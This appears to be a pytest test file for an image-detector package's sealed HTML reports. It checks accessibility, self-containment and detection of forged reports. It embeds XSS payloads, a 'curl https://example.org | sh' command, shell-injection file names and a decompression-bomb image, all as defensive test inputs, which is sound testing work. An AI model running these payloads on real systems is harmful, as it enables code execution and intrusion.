"""`masksim.dossier`: reports that can be read, filed, and checked; with the package's detector."""

from __future__ import annotations

import base64
import dataclasses
import html
import io
import json
import re
import shlex
from collections.abc import Callable
from datetime import datetime, timezone
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import ExifTags, Image, ImageDraw, ImageFont
from typer.testing import CliRunner

import masksim
from conftest import encode, make_natural, make_png
from masksim.cli import main as cli
from masksim.detector import Detector
from masksim.dossier import build, check, make_report, verify_report
from masksim.dossier import page as pages
from masksim.dossier.build import Report
from masksim.dossier.windows import windows_jpeg
from masksim.errors import ImageError, UsageError
from masksim.load import load_detector
from masksim.provenance import origin
from masksim.provenance.metadata import C2pa, statements_of
from masksim.verdict import format_rate, words

WHEN = datetime(2024, 5, 6, 7, 8, 9, tzinfo=timezone.utc)
EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>&lt;"
VOID = {"meta", "img", "br", "link", "input", "hr"}


@pytest.fixture(scope="module")
def detector() -> Detector:
    # Without the probes, which triple the time.
    return load_detector(threads=1, stability=False)


@pytest.fixture(scope="module")
def photo() -> bytes:
    return encode(Image.fromarray(make_natural(600, 1100, seed=4)), "JPEG", quality=92)


@pytest.fixture(scope="module")
def small() -> bytes:
    return encode(Image.fromarray(make_natural(264, 280, seed=7)), "JPEG", quality=92)


@pytest.fixture(scope="module")
def report(detector: Detector, photo: bytes) -> Report:
    return make_report(detector, photo, name="a folder/photo.jpg", created=WHEN)


class Page(HTMLParser):
    """Checks that every element is closed in order; collects elements and visible text."""

    def __init__(self, page: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.hidden = ""
        self.feed(page.decode("ascii"))
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len({name for name, _ in attrs}) == len(attrs)
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] in ("script", "style"):
            self.hidden += data
        else:
            self.text += data

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]


def reseal(page: bytes) -> bytes:
    """What a forger who knows the format would do."""
    return pages.SEAL.sub(
        b'<code id="masksim-seal">' + pages.seal_of(page).encode() + b"</code>", page
    )


def checks(found: check.Verification) -> dict[str, bool | None]:
    return {one.name: one.passed for one in found.checks}


# -------------------------------------------------------------------------------- what is in it


def test_the_page_says_what_was_found(report: Report) -> None:
    page = Page(report.html)
    verdict = report.detection.verdict
    assert page.text.count("photo.jpg") >= 3
    assert "a folder" not in page.text + page.hidden  # where the image lies is nobody's business
    assert verdict.headline in page.text
    assert verdict.explanation in page.text.replace("\xa0", " ")
    assert (
        f"{verdict.sample_size} copies of real photos from {verdict.sources} sources" in page.text
    )
    for score in report.detection.scores:
        assert f"{score.similarity:.4f}" in page.text
        assert score.generator in page.text
    assert report.detection.image.sha256 in page.text
    assert report.detection.detector_sha256 in page.text
    assert report.seal in page.text
    assert "2024-05-06T07:08:09Z" in page.text
    assert "not the probability" in page.text
    assert masksim.__version__ in page.text
    assert "None of these values is calibrated" in page.text
    for digest in report.data["detector"]["parts"].values():
        assert digest in page.text
    assert len(report.data["detector"]["parts"]) >= 3


def test_parts_are_those_on_disk(report: Report) -> None:
    import hashlib

    from masksim.load import bundled_path

    for name, digest in report.data["detector"]["parts"].items():
        assert hashlib.sha256((bundled_path() / name).read_bytes()).hexdigest() == digest


def test_the_embedded_data_are_the_detection(report: Report) -> None:
    data, pictures = pages.embedded(report.html)
    expected = report.detection.to_dict()
    del expected["seconds"]
    assert data["detection"] == json.loads(json.dumps(expected))
    assert data == report.data
    assert {"image", "windows"} < set(pictures)


def test_the_page_is_self_contained(report: Report) -> None:
    page = Page(report.html)
    assert report.html.isascii()
    assert len(report.html) < 3_000_000
    loaded = [
        value
        for _, attributes in page.elements
        for key in ("src", "href", "action", "data", "xlink:href", "srcset")
        if (value := attributes.get(key)) is not None
    ]
    assert loaded
    assert all(value.startswith("data:image/") for value in loaded)
    assert "url(" not in page.hidden.split("masksim-report")[0]
    assert "@import" not in page.hidden
    assert [s["type"] for s in page.all("script")] == ["application/json"]
    policy = [m["content"] for m in page.all("meta") if "http-equiv" in m]
    assert policy == ["default-src 'none'; img-src data:; style-src 'unsafe-inline'"]


def test_the_page_can_be_heard(report: Report) -> None:
    page = Page(report.html)
    assert page.all("html") == [{"lang": "en"}]
    assert all(image["alt"] for image in page.all("img"))
    for svg in page.all("svg"):
        assert svg.get("aria-hidden") == "true" or svg["aria-label"]
    assert {th["scope"] for th in page.all("th")} == {"row", "col"}
    assert len(page.all("caption")) == len(page.all("table"))
    assert len(page.all("h1")) == 1
    levels = [int(tag[1]) for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert all(b - a <= 1 for a, b in pairwise(levels))
    ids = [a["id"] for _, a in page.elements if "id" in a]
    assert len(set(ids)) == len(ids)
    labels = [a["aria-labelledby"] for _, a in page.elements if "aria-labelledby" in a]
    assert set(labels) <= set(ids)


def luminance(colour: str) -> float:
    """WCAG 2: relative luminance of #rgb or #rrggbb."""
    digits = colour[1:] if len(colour) == 7 else "".join(2 * c for c in colour[1:])
    parts = [int(digits[k : k + 2], 16) / 255 for k in (0, 2, 4)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("theme", [0, 1, 2], ids=["light", "dark", "print"])
def test_contrast(theme: int) -> None:
    block = re.findall(r":root\{([^}]*)\}", pages._STYLE)[theme]
    colours = dict(re.findall(r"--(\w+):(#\w+)", block))
    for text, paper in (("ink", "paper"), ("ink", "panel"), ("ink", "note"), ("soft", "paper"),
                        ("soft", "panel")):  # fmt: skip
        light, dark = sorted((luminance(colours[text]), luminance(colours[paper])), reverse=True)
        assert (light + 0.05) / (dark + 0.05) >= 4.5, (text, paper)


@pytest.mark.parametrize("maps", [0, 1, "all"])
def test_maps_are_drawn_for_so_many(detector: Detector, small: bytes, maps: Any) -> None:
    made = make_report(detector, small, maps=maps, created=WHEN)
    drawn = [item["generator"] for item in made.data["maps"] if item["map"]]
    ranked = [score.generator for score in made.detection.scores]
    assert drawn == (ranked if maps == "all" else ranked[:maps])
    assert not any(plane["panels"] for item in made.data["maps"] for plane in item["planes"])
    assert len(Page(made.html).all("svg")) >= len(drawn)
    if maps == "all":
        assert verify_report(made.html, detector, small).passed


def test_channels_are_drawn_where_they_are_asked_for(detector: Detector, small: bytes) -> None:
    made = make_report(detector, small, maps=2, channels=True, created=WHEN)
    panels = [[p["panels"] for p in item["planes"] if p["panels"]] for item in made.data["maps"]]
    assert [len(found) for found in panels[:3]] == [3, 3, 0]
    assert [panel["kind"] for panel in panels[0][0]] == ["contribution", "reference", "spectrum"]
    assert "--maps 2 --channels" in made.data["command"]
    assert "--channels" not in made.data["check"]
    assert verify_report(made.html, detector, small).passed

    def unsaid(data: dict[str, Any], _: Any) -> None:
        data["options"]["channels"] = False
        data |= build.commands(data)

    assert checks(verify_report(forge(made, unsaid), detector, small))["pictures"] is False


def test_a_report_is_small(detector: Detector) -> None:
    # The hardest there is: a megapixel of noise.
    noise = np.random.default_rng(0).integers(0, 256, (1024, 1024, 3), dtype=np.uint8)
    for data in (encode(Image.fromarray(noise), "PNG"), encode(Image.fromarray(
        make_natural(1024, 1280, seed=9)), "JPEG", quality=92)):  # fmt: skip
        assert len(make_report(detector, data, created=WHEN).html) < 500_000


def test_what_matters_stands_first_and_the_rest_is_folded(report: Report) -> None:
    page = report.html.decode("ascii")
    first, _, rest = page.partition('<section class="annex"')
    assert "<details" not in first
    verdict = report.detection.verdict
    assert html.escape(verdict.headline) in first
    assert "The file says" in first
    assert "This is not the probability that the image is fake" in first
    # The map of all channels of the best generator; others near it where there is evidence.
    assert first.count('class="spectrum"') == 1
    assert report.detection.scores[0].generator in first
    assert all(mark["words"] in first for mark in report.data["maps"][0]["marks"])
    annex, _, check = rest.partition('<section class="check"')
    assert annex.count("<details") > 10
    # What identifies the image and the report is not folded.
    assert report.seal in check
    assert report.detection.image.sha256 in check


def test_sums_of_channels_and_bands_are_the_similarity(report: Report) -> None:
    similarity = {s.generator: s.similarity for s in report.detection.scores}
    for item in report.data["maps"]:
        for parts in (item["planes"], item["bands"]):
            assert sum(part["sum"] for part in parts) == pytest.approx(
                similarity[item["generator"]], abs=1e-5
            )


@pytest.mark.parametrize("maps", [-1, 1.5, True, "some"])
def test_wrong_maps(detector: Detector, photo: bytes, maps: Any) -> None:
    with pytest.raises(UsageError, match="maps must be"):
        make_report(detector, photo, maps=maps)


def test_the_same_bytes_again(
    detector: Detector, small: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    first, second = (make_report(detector, small, maps=1).html for _ in range(2))
    assert first == second
    assert b"2023-11-14T22:13:20Z" in first
    assert b"SOURCE_DATE_EPOCH=1700000000 masksim report" in first
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(UsageError, match="SOURCE_DATE_EPOCH"):
        make_report(detector, small)


def test_other_kinds_of_files(detector: Detector) -> None:
    pixels = make_natural(264, 280, seed=5)
    image = Image.fromarray(pixels)
    wide = pixels.astype(np.uint16) * 257
    for data, treatment in (
        (encode(image, "PNG"), "nothing"),
        (make_png(wide), "high byte"),
        (encode(image.convert("CMYK"), "TIFF"), "CMYK converted"),
        (encode(image.convert("L"), "JPEG"), "grey repeated"),
        (encode(image, "WEBP", lossless=True), "nothing"),
    ):
        made = make_report(detector, data, maps=1, created=WHEN)
        assert treatment in Page(made.html).text or "16" in Page(made.html).text
        assert made.data["windows"] is None  # there is room for one window only
    tiny = encode(image.resize((40, 40)), "PNG")
    with pytest.raises(ImageError) as error:
        make_report(detector, tiny)
    assert error.value.code == "too_small"
    with pytest.raises(ImageError) as error:
        make_report(detector, "there is no such file.jpg")
    assert error.value.code == "not_found"


def test_an_uncalibrated_detector(detector: Detector, small: bytes) -> None:
    bare = Detector(dataclasses.replace(detector.file, calibration=None), threads=1)
    made = make_report(bare, small, maps=1, created=WHEN)
    text = Page(made.html).text
    assert "Not calibrated" in text
    assert "how rare this is among real photos is not known" in text
    assert "Each rate is" not in text
    assert "how rare such a similarity is among them is not known" in text
    assert verify_report(made.html, bare, small).passed


# ----------------------------------------------------------------------------------- injection


def test_nothing_from_outside_runs(detector: Detector) -> None:
    tags = Image.Exif()
    for tag in (ExifTags.Base.Make, ExifTags.Base.Model, ExifTags.Base.ImageDescription):
        tags[tag] = EVIL + "</style></table></main>"
    from PIL.PngImagePlugin import PngInfo

    chunks = PngInfo()
    for key, value in (
        (EVIL[:79], EVIL),
        ("prompt", EVIL + '<code id="masksim-seal">' + "0" * 64 + "</code>"),
        ("workflow", "</script><script>alert(3)</script>"),
        ("picture", 'data-picture="image" src="data:image/png;base64,AAAA"'),
    ):
        chunks.add_text(key, value)
    image = Image.fromarray(make_natural(264, 280, seed=6))
    data = encode(image, "PNG", exif=tags, pnginfo=chunks)
    name = f"{EVIL}\u202egpj.\x1b[31m\udcff.png".replace("/", "|")
    made = make_report(detector, data, name=name, maps=1, model=EVIL, created=WHEN)
    page = Page(made.html)
    assert "<script>alert(1)" in page.text  # it is shown
    assert len(page.all("script")) == 1
    assert len(page.all("img")) == 1
    known = {"html", "head", "meta", "title", "style", "body", "main", "header", "p", "h1", "h2"}
    known |= {"h3", "div", "figure", "figcaption", "section", "ul", "ol", "li", "table", "caption"}
    known |= {"thead", "tbody", "tr", "th", "td", "code", "pre", "details", "summary", "span"}
    known |= {"strong", "img", "svg", "rect", "line", "text", "circle", "image", "script"}
    assert {tag for tag, _ in page.elements} <= known
    assert not [k for _, attributes in page.elements for k in attributes if k.startswith("on")]
    assert "\x1b" not in page.text
    assert "\u202e" not in page.text
    assert verify_report(made.html, detector, data).passed


# ---------------------------------------------------------------------------------- verifying


def test_a_report_verifies(report: Report, detector: Detector, photo: bytes) -> None:
    found = verify_report(report.html, detector, photo)
    assert found.passed
    assert list(checks(found)) == [
        "seal", "content", "image", "detector", "scores", "verdict", "metadata", "windows", "maps",
        "pictures",
    ]  # fmt: skip
    assert all(checks(found).values())


def test_one_changed_byte_breaks_the_seal(report: Report) -> None:
    rng = np.random.default_rng(0)
    places = set(rng.integers(0, len(report.html), 300).tolist())
    # Visible numbers, text, pictures, the data and the seal itself.
    for pattern in (rb"real photos</strong>", rb"<td>0\.\d", rb"base64,", rb'"similarity"',
                    rb'"sha256"', rb"What this does", rb'masksim-seal">'):  # fmt: skip
        places |= {m.end() + int(rng.integers(0, 4)) for m in re.finditer(pattern, report.html)}
    for at in places:
        changed = bytearray(report.html)
        changed[at] ^= int(rng.integers(1, 128))
        assert check._check_seal(bytes(changed)).passed is False, at
    for cut in (report.html[:-1], report.html + b"\n", b"", report.html * 2):
        assert check._check_seal(cut).passed is False


@pytest.mark.parametrize(
    ("old", "new"),
    [(rb"<td>(-?\d\.\d{4})</td>", b"<td>0.9999</td>"), (rb"What this does", b"What this doth")],
    ids=["number", "text"],
)
def test_a_careful_forger_of_the_text(
    report: Report,
    detector: Detector,
    photo: bytes,
    old: bytes,
    new: bytes,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    known = gathered(report, detector, photo)
    monkeypatch.setattr(check, "gather", lambda *_: known)
    forged = re.sub(old, new, report.html, count=1)
    assert forged != report.html
    found = checks(verify_report(forged, detector, photo))
    assert (found["seal"], found["content"]) == (False, False)
    again = verify_report(reseal(forged), detector, photo)
    assert not again.passed
    assert (checks(again)["seal"], checks(again)["content"]) == (True, False)


def forge(report: Report, change: Callable[[dict[str, Any], dict[str, bytes]], None]) -> bytes:
    """Change the data or pictures and draw the whole page anew."""
    data, pictures = pages.embedded(report.html)
    change(data, pictures)
    return pages.render(data, pictures)


def change_score(data: dict[str, Any], _: Any) -> None:
    data["detection"]["scores"][0]["similarity"] += 2e-5


def change_rate(data: dict[str, Any], _: Any) -> None:
    data["detection"]["scores"][1]["false_positive_rate"] *= 0.9


def change_level(data: dict[str, Any], _: Any) -> None:
    data["detection"]["verdict"]["level"] = "strong evidence"


def change_joint(data: dict[str, Any], _: Any) -> None:
    data["detection"]["verdict"]["false_positive_rate"] = 0.001


def change_caution(data: dict[str, Any], _: Any) -> None:
    data["detection"]["verdict"]["cautions"] = ["It is surely fake."]


def change_quality(data: dict[str, Any], _: Any) -> None:
    data["detection"]["image"]["jpeg_quality"] = 99


def change_maker(data: dict[str, Any], _: Any) -> None:
    data["metadata"]["make"] = "Canon"


def change_window(data: dict[str, Any], _: Any) -> None:
    data["windows"]["grid"][0]["similarity"] = 0.3


def change_calibration(data: dict[str, Any], _: Any) -> None:
    data["detector"]["sample_size"] = 10**6


def change_mark(data: dict[str, Any], _: Any) -> None:
    data["maps"][0]["marks"][0]["words"] = "anything"


def change_picture(_: Any, pictures: dict[str, bytes]) -> None:
    with Image.open(io.BytesIO(pictures["image"])) as image:
        turned = image.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    pictures["image"] = encode(turned, "JPEG", quality=85)


def change_map(_: Any, pictures: dict[str, bytes]) -> None:
    name = next(n for n in pictures if n.startswith("map-"))
    with Image.open(io.BytesIO(pictures[name])) as image:
        pictures[name] = encode(image.rotate(90), "PNG")


def set_to(path: str, value: Any) -> Callable[[dict[str, Any], Any], None]:
    """Change one value of the data."""

    def change(data: dict[str, Any], _: Any) -> None:
        *way, last = path.split(".")
        for key in way:
            data = data[key]
        assert data[last] != value
        data[last] = value

    return change


def change_text(data: dict[str, Any], _: Any) -> None:
    verdict = data["detection"]["verdict"]
    verdict["false_positive_rate"] += 1e-12
    verdict["text"] = "It is surely fake."


def change_digits(data: dict[str, Any], _: Any) -> None:
    # The rate is right, its digits in the sentence are not.
    verdict = data["detection"]["verdict"]
    written = f"{format_rate(verdict['false_positive_rate'], verdict['sample_size'])} of "
    assert written in verdict["text"]
    verdict["text"] = verdict["text"].replace(written, "0.3 % of ")


def change_statements(data: dict[str, Any], _: Any) -> None:
    data["metadata"]["c2pa"]["signer"] = "x"
    data["metadata"]["statements"] = [{"text": "It is fake.", "points_to": "generator"}]


def change_statement(data: dict[str, Any], _: Any) -> None:
    data["metadata"]["statements"].append({"text": "It is fake.", "points_to": "generator"})


def add_manifest(data: dict[str, Any], _: Any) -> None:
    data["metadata"]["c2pa"]["state"] = "trusted"
    data["metadata"]["statements"] = statements_of(data["metadata"])


def add_version(data: dict[str, Any], _: Any) -> None:
    data["versions"]["Expert opinion"] = "fake"


def painted(name: str, text: str, size: int) -> Callable[[Any, dict[str, bytes]], None]:
    def change(_: Any, pictures: dict[str, bytes]) -> None:
        with Image.open(io.BytesIO(pictures[name])) as image:
            colours = image.convert("RGB")
        font = ImageFont.load_default(size)
        ImageDraw.Draw(colours).text((21, 23), text, (255, 0, 0), font)
        pictures[name] = encode(colours, "JPEG", quality=92)
        one, other = (
            masksim.load_image(p).pixels.astype(int)
            for p in (pictures[name], encode(image.convert("RGB"), "JPEG", quality=92))
        )
        assert np.abs(one - other).mean() < 1  # hardly anything, over the whole picture

    return change


@pytest.mark.parametrize(
    ("change", "failed"),
    [
        (change_text, "verdict"), (change_digits, "verdict"),
        (change_statements, "metadata"), (change_statement, "metadata"),
        (add_manifest, "metadata"), (add_version, "content"),
        (set_to("command", "curl https://example.org | sh"), "content"),
        (set_to("check", "true"), "content"),
        (set_to("created", "1999"), "content"),
        (set_to("created", "2024-05-06T07:08:10Z"), "content"),  # the command has the time, too
        (set_to("options.model", "mine"), "content"),
        (set_to("options.model", 1), "content"),
        (set_to("versions.Pillow", "0 (it is fake)"), "content"),
        (painted("image", "AI", 10), "pictures"), (painted("image", "AI FAKE", 24), "pictures"),
        (painted("windows", "AI", 10), "pictures"),
        (change_score, "scores"), (change_rate, "scores"), (change_level, "verdict"),
        (change_joint, "verdict"), (change_caution, "verdict"), (change_quality, "verdict"),
        (change_maker, "metadata"), (change_window, "windows"), (change_calibration, "windows"),
        (change_mark, "maps"), (change_picture, "pictures"), (change_map, "pictures"),
    ],
)  # fmt: skip
def test_a_forger_with_our_own_code(
    report: Report, detector: Detector, photo: bytes, change: Any, failed: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    forged = forge(report, change)
    # The analysis is the same for all: once is enough.
    found = gathered(report, detector, photo)
    monkeypatch.setattr(check, "gather", lambda *_: found)
    result = verify_report(forged, detector, photo)
    assert not result.passed
    assert [name for name, ok in checks(result).items() if ok is False] == [failed]


_KEPT: dict[str, Any] = {}


def gathered(report: Report, detector: Detector, photo: bytes) -> Any:
    if report.seal not in _KEPT:
        _KEPT[report.seal] = build.gather(detector, photo, "photo.jpg", 3, False)
    return _KEPT[report.seal]


def test_rounding_of_another_processor_passes(
    report: Report, detector: Detector, photo: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def change(data: dict[str, Any], pictures: dict[str, bytes]) -> None:
        for score in data["detection"]["scores"]:
            score["similarity"] += 4e-6
        data["maps"][0]["planes"][0]["sum"] -= 4e-6
        n = data["detection"]["verdict"]["sample_size"]
        data["detection"]["verdict"]["false_positive_rate"] += 1 / (n + 1)
        with Image.open(io.BytesIO(pictures["image"])) as image:
            pictures["image"] = encode(image, "JPEG", quality=90)

    found = gathered(report, detector, photo)
    monkeypatch.setattr(check, "gather", lambda *_: found)
    assert verify_report(forge(report, change), detector, photo).passed


def test_digits_that_fall_otherwise_pass(
    report: Report, detector: Detector, photo: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of the sentence and of the picture of windows, which hold rounded numbers."""
    found = gathered(report, detector, photo)
    own = json.loads(json.dumps(found[1]))
    windows = own["windows"]
    # As another processor would find it: just above and just below what is rounded to two digits.
    window = windows["analysed"][0]
    window["similarity"] = 0.1235 - 2e-6
    limit = windows["limit"] = max(windows["limit"], 0.13)
    loaded = masksim.load_image(photo, name="photo.jpg")

    def drawn(values: Any) -> bytes:
        return windows_jpeg(loaded, {**values, "limit": limit})

    pictures = {**found[2], "windows": drawn(windows)}
    monkeypatch.setattr(check, "gather", lambda *_: (found[0], own, pictures))

    def change(data: dict[str, Any], stated: dict[str, bytes]) -> None:
        data["windows"] = json.loads(json.dumps(windows))
        data["windows"]["analysed"][0]["similarity"] = 0.1235 + 2e-6
        stated["windows"] = drawn(data["windows"])
        assert stated["windows"] != pictures["windows"]
        verdict = data["detection"]["verdict"]
        verdict["false_positive_rate"] += 1.9 / (verdict["sample_size"] + 1)
        verdict |= words(verdict)

    result = verify_report(forge(report, change), detector, photo)
    assert result.passed, result.summary


def c2pa(state: str, **values: Any) -> dict[str, Any]:
    made = {"actions": ["created"], "signer": "Someone", "problems": []}
    empty = json.loads(json.dumps(dataclasses.asdict(C2pa())))
    return {
        **empty,
        **({} if state in ("absent", "not verified") else made),
        "state": state,
    } | values


@pytest.mark.parametrize(
    ("stated", "found", "same"),
    [
        (c2pa("trusted"), c2pa("untrusted", problems=["signingCredential.untrusted"]), True),
        (c2pa("valid"), c2pa("trusted"), True),
        (c2pa("not verified"), c2pa("untrusted"), True),
        (c2pa("trusted"), c2pa("not verified"), None),
        (c2pa("not verified"), c2pa("not verified"), True),
        (c2pa("not verified", signer="Someone"), c2pa("trusted"), False),
        (c2pa("trusted", signer="Nobody"), c2pa("untrusted"), False),
        (c2pa("trusted", problems=["a.mismatch"]), c2pa("untrusted"), False),
        (c2pa("trusted"), c2pa("tampered"), False),
        (c2pa("tampered"), c2pa("trusted"), False),
        (c2pa("tampered"), c2pa("not verified"), False),
        (c2pa("not verified"), c2pa("tampered"), False),
        (c2pa("absent"), c2pa("trusted"), False),
        (c2pa("trusted"), c2pa("absent"), False),
        (c2pa("absent"), c2pa("not verified"), False),
        (c2pa("absent", signer="x"), c2pa("absent"), False),
        (c2pa("splendid"), c2pa("trusted"), False),
    ],
)
def test_manifests_may_differ_in_trust_only(
    report: Report, detector: Detector, photo: bytes, stated: Any, found: Any, same: bool | None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    detection, values, pictures = gathered(report, detector, photo)
    values = {**values, "metadata": {**values["metadata"], "c2pa": found}}
    values["metadata"]["statements"] = statements_of(values["metadata"])
    monkeypatch.setattr(check, "gather", lambda *_: (detection, values, pictures))

    def change(data: dict[str, Any], _: Any) -> None:
        data["metadata"]["c2pa"] = stated
        if stated["state"] != "splendid":
            data["metadata"]["statements"] = statements_of(data["metadata"])
            verdict = data["detection"]["verdict"]
            said = origin.origin_of_values(data["metadata"])
            beside = origin.beside(
                verdict["level"], verdict["headline"], verdict["generator"], said
            )
            data["detection"]["origin"] = {**said.to_dict(), "beside": beside}

    result = verify_report(forge(report, change), detector, photo)
    assert checks(result)["metadata"] is same
    assert result.passed is (same is not False)


@pytest.mark.parametrize("name", ["-x.jpg", "verify", "make", "--", "a b.jpg", "'; true '.jpg"])
def test_commands_take_odd_names_for_files(report: Report, name: str) -> None:
    data = json.loads(json.dumps(report.data))
    data["detection"]["image"]["name"] = name
    data["options"]["model"] = "-m"
    for key, place in (("command", 3), ("check", 4)):
        words = shlex.split(build.commands(data)[key])
        assert words[place] in (name, f"./{name}")
        assert not words[place].startswith("-")
        assert words[place] not in ("verify", "make")
        assert words[-2:] == ["--model", "./-m"]


def test_another_image(report: Report, detector: Detector, photo: bytes) -> None:
    other = photo[:-2] + b"\0" + photo[-2:]  # the same pixels
    found = verify_report(report.html, detector, other)
    assert not found.passed
    assert checks(found)["image"] is False
    assert checks(found)["scores"] is None


def test_another_detector(report: Report, detector: Detector, photo: bytes) -> None:
    other = Detector(dataclasses.replace(detector.file, sha256="0" * 64), threads=1)
    found = verify_report(report.html, other, photo)
    assert not found.passed
    assert checks(found)["detector"] is False
    assert "--model" in next(c.message for c in found.checks if c.name == "detector")


def test_another_version_is_said(
    report: Report, detector: Detector, photo: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = gathered(report, detector, photo)
    monkeypatch.setattr(check, "gather", lambda *_: found)
    monkeypatch.setattr(check, "__version__", "9.9")
    result = verify_report(report.html, detector, photo)
    assert [name for name, ok in checks(result).items() if not ok] == ["content"]
    assert checks(result)["content"] is None
    assert not result.passed
    assert result.summary == "the numbers hold, the page was not checked"


def test_a_forger_who_names_another_version(
    report: Report, detector: Detector, photo: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = gathered(report, detector, photo)
    monkeypatch.setattr(check, "gather", lambda *_: found)

    def change(data: dict[str, Any], _: Any) -> None:
        data["versions"]["masksim"] = "0.0.1"

    page = forge(report, change).replace(b"</main>", b"<p>It is surely fake.</p></main>")
    result = verify_report(reseal(page), detector, photo)
    assert not result.passed
    assert "the page was not checked" in next(
        c.message for c in result.checks if c.name == "content"
    )
    changed = verify_report(reseal(page), detector, photo + b"x")
    assert "does not verify: image" in changed.summary


@pytest.mark.parametrize(
    "page",
    [
        b"",
        b"<html></html>",
        b'<script type="application/json" id="masksim-report">\n{"a": 1}\n</script>',
        b'<script type="application/json" id="masksim-report">\n' + b"[" * 99999 + b"\n</script>",
        b'<script type="application/json" id="masksim-report">\n[]\n</script>',
    ],
)
def test_no_report_at_all(page: bytes, detector: Detector, photo: bytes) -> None:
    found = verify_report(page, detector, photo)
    assert not found.passed
    assert checks(found) == {"seal": False, "content": False}


def test_hostile_data_do_not_raise(report: Report, detector: Detector, photo: bytes,
                                   monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    found = gathered(report, detector, photo)
    monkeypatch.setattr(check, "gather", lambda *_: found)
    block = re.compile(rb'(id="masksim-report">\n)(.*)(\n</script>)', re.DOTALL)
    for key in ("detection", "maps", "windows", "metadata", "image", "detector", "options"):
        values: tuple[Any, ...] = (None, {}, "x", [[[]]])
        for value in values:
            data = {**report.data, key: value}
            text = json.dumps(data).replace("<", "\\u003c").encode()
            page = block.sub(lambda m, text=text: m[1] + text + m[3], report.html)  # type: ignore[misc]
            assert not verify_report(page, detector, photo).passed
    bomb = base64.b64encode(make_png(np.zeros((2, 2, 3), np.uint8), size=(60000, 60000)))
    page = re.sub(rb'(src="data:image/jpeg;base64,)[^"]*', rb"\1" + bomb, report.html, count=1)
    assert checks(verify_report(page, detector, photo))["pictures"] is False


# ------------------------------------------------------------------------------- command line


@pytest.fixture
def run(detector: Detector, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
    def load(path: Any = None, **_: Any) -> Detector:
        assert path is None
        return detector

    monkeypatch.setattr("masksim.load.load_detector", load)
    return lambda *arguments, **options: CliRunner().invoke(
        cli.app, ["report", *map(str, arguments)], **options
    )


def test_the_commands(run: Callable[..., Any], small: bytes, tmp_path: Path) -> None:
    image, out = tmp_path / "photo.jpg", tmp_path / "report.html"
    image.write_bytes(small)
    made = run(image, "-o", out, "--maps", "1")
    assert made.exit_code == 0, made.output
    assert pages.seal_of(out.read_bytes()) in made.stdout

    again = run("--out", out, image)
    assert again.exit_code == 2
    assert "--overwrite" in again.stderr
    replaced = run("--json", "--overwrite", "--maps", "all", "-o", out, "-", input=small)
    assert replaced.exit_code == 0, replaced.output
    result = json.loads(replaced.stdout)
    assert result["seal"] == pages.seal_of(out.read_bytes())
    assert result["n_bytes"] == len(out.read_bytes())
    assert result["image"]["name"] == "<stdin>"
    assert result["verdict"]["level"]

    checked = run("verify", out, image)
    assert checked.exit_code == 0, checked.output
    assert checked.stdout.splitlines()[-1] == "verified"
    page = bytearray(out.read_bytes())
    page[page.index(b"Verdict")] ^= 1
    out.write_bytes(page)
    failed = run("verify", out, image, "--json")
    assert failed.exit_code == 1
    result = json.loads(failed.stdout)
    assert result["passed"] is False
    assert {c["name"] for c in result["checks"] if c["passed"] is False} == {"seal", "content"}
    assert "does not verify: seal, content" in failed.stderr


def test_wrong_usage(run: Callable[..., Any], photo: bytes, tmp_path: Path) -> None:
    image = tmp_path / "photo.jpg"
    image.write_bytes(photo)
    assert run(image).exit_code == 2  # without a place to write to
    assert run(image, "-o", tmp_path / "a.html", "--maps", "few").exit_code == 2
    assert run(image, "-o", tmp_path / "no folder" / "a.html").exit_code == 2
    assert run(tmp_path / "none.jpg", "-o", tmp_path / "a.html").exit_code == 3
    assert run(image, "-o", tmp_path / ("a" * 300 + ".html")).exit_code == 2
    assert run("verify", tmp_path / "none.html", image).exit_code == 2
    assert run("--help").exit_code == 0
    assert not (tmp_path / "a.html").exists()
